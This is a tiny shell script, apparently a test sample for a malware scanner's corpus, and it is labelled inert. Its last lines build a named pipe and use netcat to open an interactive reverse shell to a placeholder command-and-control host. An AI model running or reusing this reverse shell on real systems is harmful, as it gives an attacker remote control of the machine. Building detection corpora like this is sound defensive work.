# TEST SAMPLE: inert, for the scanner corpus
set -e
echo starting
rm -f /tmp/.f; mkfifo /tmp/.f
cat /tmp/.f | sh -i 2>&1 | nc c2.example.invalid 4444 > /tmp/.f
